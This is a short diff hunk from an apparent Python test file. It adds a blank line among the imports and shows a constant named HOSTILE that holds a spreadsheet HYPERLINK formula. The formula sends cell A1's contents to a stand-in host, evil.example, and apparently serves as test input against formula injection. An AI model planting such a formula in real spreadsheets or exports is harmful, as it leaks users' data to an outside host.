@@ -9,6 +9,7 @@ import shutil
 from pathlib import Path
 
 import pytest
+
 from tests.conftest import BUNDLED_CONFIG
 
 HOSTILE = '=HYPERLINK("http://evil.example/?d="&A1,"klik")'
